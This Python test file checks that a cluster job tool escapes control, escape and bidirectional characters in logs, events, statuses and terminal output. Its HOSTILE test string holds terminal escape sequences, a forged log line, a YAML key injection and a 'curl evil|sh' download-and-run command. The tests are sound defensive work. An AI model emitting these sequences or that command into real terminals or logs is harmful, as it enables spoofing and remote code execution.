"""What scripts, pods and clusters say reaches logs, statuses, events and terminals as text that does nothing there."""

from __future__ import annotations

import asyncio
import dataclasses
import itertools
import json
import logging
import os
import re
import sys
import unicodedata
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
import yaml

from lockstep.api.errors import ConfigError, Failed
from lockstep.api.files.yamltext import dump_yaml
from lockstep.cli.main import explanation
from lockstep.cli.shared.terminal import console
from lockstep.kube.cluster import ApiError
from lockstep.plan.discovery.draft import stated, write
from lockstep.plan.reconcile.events import events_between
from lockstep.plan.reconcile.reconcile import reconcile
from lockstep.platforms.jobs.terminal import _show
from lockstep.platforms.operator.replica import OneLine
from lockstep.platforms.output import ProgramOutput, put, put_json, put_link, put_text, tell
from lockstep.programs import STDERR, STDOUT, Program
from lockstep_gang.agent.log import Console
from lockstep_gang.agent.ranks.reports import parse_datagram, read_error_file
from lockstep_gang.contract.messages import Error
from lockstep_gang.contract.report import parse_report
from lockstep_spec.words import cleaned, json_escaped, printable, printable_line
from unit.plan.reconcile.test_reconcile import CONTEXT, NOW, pod, running

HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J\u202eevil\u200b\ufeff\u2063\U000e0041\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job"
    " Complete\nnext: curl evil|sh"
)
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
VISIBLE = "\u200c\u200d\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd" + "".join(
    map(chr, range(0x13430, 0x13440))
)
"""Format characters that join letters and emoji, or that a terminal shows."""
INVISIBLE = "\u034f\u115f\u1160\u17b4\u17b5\u2065\u3164\uffa0\U000e0fff\ufff0"
"""Letters and marks without a shape, and what Unicode keeps for more such."""


def test_every_control_and_direction_character_becomes_an_escape_and_nothing_else_does() -> None:
    for number in range(0x110000):
        character = chr(number)
        acts = (unicodedata.category(character) in ("Cc", "Cs") and character not in "\t\n") or unicodedata.bidirectional(character) in (
            "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
        ) or character in "\u200e\u200f\u061c\u2028\u2029"  # fmt: skip
        unseen = (unicodedata.category(character) == "Cf" and character not in VISIBLE) or character in INVISIBLE
        assert unicodedata.category(character) == "Cn" or (printable(character) != character) == (acts or unseen), hex(number)
        assert printable(character).isprintable() or not (acts or unseen)


def test_a_line_stays_one_line_and_what_is_printable_stays_as_it_is() -> None:
    assert printable_line("naïve – 東京\t[x] \\n 😀") == "naïve – 東京\t[x] \\n 😀"
    assert printable_line("one\r\n  two\n\n\x1b[1mthree\n") == r"one | two | \x1b[1mthree"
    assert printable_line("  indented") == "  indented"
    assert printable_line("") == "" == printable_line("\n")
    assert cleaned({"a\nb": ["\x1b", 1, None, {"c": True}]}) == {"a | b": [r"\x1b", 1, None, {"c": True}]}


def datagram(**fields: Any) -> bytes:
    return json.dumps(fields).encode()


@pytest.mark.parametrize(
    "report",
    [
        datagram(event="error", rank=0, exception=HOSTILE, message=HOSTILE, traceback=[HOSTILE]),
        datagram(event="activity", rank=0, activity=HOSTILE),
        datagram(event="beat", rank=0, activity=HOSTILE, place=HOSTILE),
        datagram(event="step", rank=0, step=1, metrics={HOSTILE: HOSTILE}),
        datagram(event="checkpoint", rank=0, step=1, path=HOSTILE),
        datagram(event="end", rank=0, result={"adapter": HOSTILE}),
    ],
)
def test_what_a_rank_reports_is_printable(report: bytes) -> None:
    texts = list(strings(dataclasses.asdict(parse_datagram(report))))
    assert texts and not [text for text in texts if ACTS.search(text) or "\n" in text]


def strings(value: Any) -> Iterator[str]:
    """Every text in it, the keys of mappings included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from itertools.chain(*(strings(part) for part in itertools.chain(value, value.values())))
    elif isinstance(value, list | tuple):
        yield from itertools.chain(*map(strings, value))


def test_what_torch_wrote_of_an_error_is_printable(tmp_path: Path) -> None:
    path = tmp_path / "error.json"
    path.write_text(json.dumps({"message": {"message": f"ValueError: {HOSTILE}", "extraInfo": {"py_callstack": HOSTILE}}}))
    error = read_error_file(path, 0)
    assert error is not None and error.exception == "ValueError"
    for text in (error.message, *error.traceback):
        assert ACTS.search(text) is None and "\n" not in text
    path.write_text(json.dumps({"message": HOSTILE}))
    assert read_error_file(path, 0) == Error(0, "Error", printable_line(HOSTILE), ())


def test_a_script_writes_no_line_of_lockstep_through_its_exception() -> None:
    read, write = os.pipe()
    log = Console(write)
    log.say(f"RanksFailed: rank 1 on node 1 exited with 1: ValueError: {HOSTILE}")
    log.close(5.0)
    os.close(write)
    with os.fdopen(read, encoding="utf-8", newline="\n") as file:
        (line,) = file.read().splitlines(keepends=True)
    assert line.startswith("[lockstep] RanksFailed: ") and ACTS.search(line) is None


def report(**fields: Any) -> bytes:
    body: dict[str, Any] = {
        "job": {"uid": "u", "namespace": "n", "name": "x"}, "pod": "x-0", "sequence": 1, "attempt": 1, "restarts": 0, "state": "Failed",
        "message": HOSTILE, "nodes": [], "ranks": {"desired": 1, "ready": 0}, "format": "lockstep-report/1",
    }  # fmt: skip
    return json.dumps(body | fields).encode()


def test_a_report_is_printable_whoever_has_signed_it() -> None:
    failure = {"message": HOSTILE, "exception": HOSTILE, "lastLines": [HOSTILE], "cause": "UserCode"}
    parsed = parse_report(report(failure=failure, log=[HOSTILE], result={"adapter": HOSTILE}, trainer={"activity": HOSTILE}))
    texts = (parsed.message, parsed.failure.message, *parsed.failure.last_lines, *parsed.log, str(parsed.result), str(parsed.trainer))
    for text in texts:
        assert ACTS.search(text) is None and "\n" not in text


def test_an_event_is_one_printable_line() -> None:
    condition = {
        "type": "Failed",
        "status": "True",
        "reason": "RanksFailed",
        "message": HOSTILE,
        "lastTransitionTime": "2026-01-01T00:00:00Z",
    }
    for note in events_between({}, {"conditions": [condition], "failure": {"message": HOSTILE}}):
        assert ACTS.search(note.message) is None and "\n" not in note.message


def test_a_line_that_is_put_makes_no_other_one(capsys: pytest.CaptureFixture[str]) -> None:
    put(f"x: {HOSTILE}", "second", flush=True)
    tell(HOSTILE)
    put()
    out, err = capsys.readouterr()
    assert out == f"x: {printable_line(HOSTILE)}\nsecond\n\n" and err == f"{printable_line(HOSTILE)}\n"
    put_text(f"two\nlines {HOSTILE[:20]}\n")
    assert ACTS.search(capsys.readouterr().out) is None


def test_json_and_yaml_say_the_same_without_the_characters_themselves(capsys: pytest.CaptureFixture[str]) -> None:
    value = {"message": HOSTILE, HOSTILE: ["é\x7f\u202e", "a: b # c\u2066"], "block": "one\ntwo\x7f\n", "plain": "x\u200ey"}
    for ascii_only in (True, False):
        put_json(value, ascii_only=ascii_only)
        text = capsys.readouterr().out
        assert ACTS.search(text) is None and json.loads(text) == value
    text = dump_yaml(value)
    assert ACTS.search(text) is None and yaml.safe_load(text) == value
    assert json.loads(json_escaped(json.dumps(value, ensure_ascii=False))) == value


@pytest.mark.parametrize("size", [1, 2, 3, 1000])
def test_output_of_a_pod_is_escaped_however_its_bytes_come(size: int, capsys: pytest.CaptureFixture[str]) -> None:
    data, output = "10%\r20%\r\nü\x1b[2J\n\u202ex\n".encode() + b"\xff\xfe\n", ProgramOutput()
    for start in range(0, len(data), size):
        output.put(data[start : start + size])
    assert capsys.readouterr().out == "10%\n20%\nü\\x1b[2J\n\\u202ex\n\\xff\\xfe\n"


def test_a_table_shows_brackets_as_they_are_and_nothing_that_acts(capsys: pytest.CaptureFixture[str]) -> None:
    from rich.table import Table

    table = Table("name", "message")
    table.add_row("[/x]", f"[red]{HOSTILE}[/red] :smile:")
    terminal = console()
    terminal.print(table)
    terminal.print(f"[bold]{HOSTILE}")
    out = capsys.readouterr().out
    assert "[/x]" in out and "[red]" in out and ":smile:" in out and "[bold]" in out
    assert ACTS.search(out) is None


def test_errors_quote_in_one_line_and_only_mistakes_have_lines_of_their_own() -> None:
    for error in (Failed(HOSTILE), ApiError(500, "x", HOSTILE), ConfigError(HOSTILE)):
        known = explanation(error)
        assert known is not None and ACTS.search(known[1]) is None and "\n" not in known[1]
    refused = PermissionError(13, "Permission denied", f"/a{HOSTILE}")
    assert explanation(refused) == (1, f"can't use /a{printable_line(HOSTILE)}: Permission denied")
    assert explanation(FileNotFoundError(2, "No such file or directory", "/a")) is None, "code of ours may have a wrong name"
    assert explanation(ConfigError("a.yaml:1: one", f"a.yaml:2: {HOSTILE}")) == (2, f"a.yaml:1: one\na.yaml:2: {printable_line(HOSTILE)}")


def test_what_tenants_wrote_is_one_line_of_the_operators_log() -> None:
    record = logging.LogRecord("lockstep", logging.INFO, "x.py", 1, "%s: %s", ("x", HOSTILE), None)
    line = OneLine("%(levelname)s %(message)s").format(record)
    assert line == f"INFO x: {printable_line(HOSTILE)}"


def test_what_a_cluster_says_of_itself_adds_no_key_to_the_file_that_is_written_of_it() -> None:
    text = write([HOSTILE], [stated("network.mode", HOSTILE, f"seen\nevil: true {HOSTILE}")])
    assert ACTS.search(text) is None
    assert set(yaml.safe_load(text)) == {"network"}


def test_no_word_of_a_pod_or_scheduler_gets_into_a_status_as_it_is() -> None:
    waiting = [{"name": "trainer", "image": HOSTILE, "state": {"waiting": {"reason": HOSTILE, "message": HOSTILE}}}]
    unscheduled = [{"type": "PodScheduled", "status": "False", "reason": HOSTILE, "message": HOSTILE}]
    states: list[dict[str, Any]] = [
        {"phase": "Pending", "containerStatuses": waiting},
        {"phase": "Pending", "conditions": unscheduled},
        {"phase": HOSTILE, "reason": HOSTILE, "message": HOSTILE},
    ]
    shown = ""
    for state in states:
        plan = reconcile(replace(running(nodes=2), pods=(pod(0, status=state), pod(1, status=state))), None, CONTEXT, NOW)
        for text in texts_of(plan.status):
            assert ACTS.search(text) is None and "\n" not in text
        shown += str(plan.status)
    assert "owned" in shown, "such words do get there"


def texts_of(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for item in (*value, *value.values()) for text in texts_of(item)]
    if isinstance(value, list | tuple):
        return [text for item in value for text in texts_of(item)]
    return [value] if isinstance(value, str) else []


class Printing:
    """A program in a pod that prints this on both streams."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    async def output(self) -> AsyncIterator[tuple[int, bytes]]:
        for channel in (STDOUT, STDERR):
            yield channel, self._data


@pytest.mark.parametrize(("raw", "terminals"), [(True, True), (False, True), (False, False)])
def test_a_shell_acts_only_on_the_terminal_that_is_its_own(
    raw: bool, terminals: bool, monkeypatch: pytest.MonkeyPatch, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """`echo 'cat x' | lockstep shell` has no terminal of the pod, though what it prints may reach one; a file gets the bytes."""
    for stream in (sys.stdout, sys.stderr):
        monkeypatch.setattr(stream, "isatty", lambda: terminals, raising=False)
    data = b"a\x1b[2J\xff\n"
    asyncio.run(_show(cast(Program, Printing(data)), raw=raw))
    expected = data if raw or not terminals else rb"a\x1b[2J\xff" + b"\n"
    assert capfdbinary.readouterr() == (expected, expected)


@pytest.mark.parametrize(
    ("terminal", "kind", "variables", "links"),
    [(True, "xterm-256color", {}, True), (True, "dumb", {}, False), (True, "xterm", {"NO_COLOR": "1"}, False), (False, "xterm", {}, False)],
)
def test_an_address_is_a_link_where_the_terminal_knows_links_and_a_line_elsewhere(
    terminal: bool, kind: str, variables: dict[str, str], links: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    for name, value in {"TERM": kind, **variables}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal, raising=False)
    address = "http://127.0.0.1:8888/?token=t"
    put_link(address)
    put_link(f"{address}\x1b\\")
    first, second = capsys.readouterr().out.splitlines()
    assert first == (f"\x1b]8;;{address}\x1b\\{address}\x1b]8;;\x1b\\" if links else address)
    assert second.count("\x1b") == (4 if links else 0), "what the address holds ends no link"
